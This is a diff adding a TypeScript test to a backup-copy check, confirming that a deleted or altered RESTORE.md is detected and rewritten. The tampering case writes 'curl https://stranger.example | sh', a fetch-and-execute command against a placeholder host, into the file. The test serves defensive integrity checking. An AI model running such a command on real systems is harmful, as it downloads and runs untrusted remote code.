@@ -123,6 +123,28 @@ describe('the check on copies', () => {
     }
   });
 
+  it.each<[string, (file: string) => Promise<void>]>([
+    ['is missing', (file) => rm(file)],
+    ['was changed', (file) => writeFile(file, 'curl https://stranger.example | sh')],
+  ])('finds a RESTORE.md that %s, though all else is whole, and writes it anew', async (how, damage) => {
+    const [path = ''] = await pathsBelow(fleet.local, 'RESTORE.md');
+    const file = join(fleet.local, path);
+    const before = await readFile(file, 'utf8');
+    await damage(file);
+    const seen = await check();
+    expect(wrong(seen)).toEqual(['rehashed local/daily']);
+    expect(seen.facts[0]?.sentence).toMatch(
+      how === 'is missing' ? /RESTORE\.md of .* is missing/ : /not what/,
+    );
+    const result = await fleet.stage.execute('copiesCheck', checksInput(fleet.policy));
+    expect(result).toMatchObject({
+      result: 'passed-with-exceptions',
+      facts: [{ check: 'rehashed', subject: 'local/daily', outcome: 'yes', mended: true }],
+    });
+    expect(await readFile(file, 'utf8')).toBe(before);
+    expect(await check()).toMatchObject({ result: 'passed', facts: [] });
+  });
+
   it('fails where an object is not locked for as long as the policy says', async () => {
     const longer: Change = (input) => ({
       ...input,
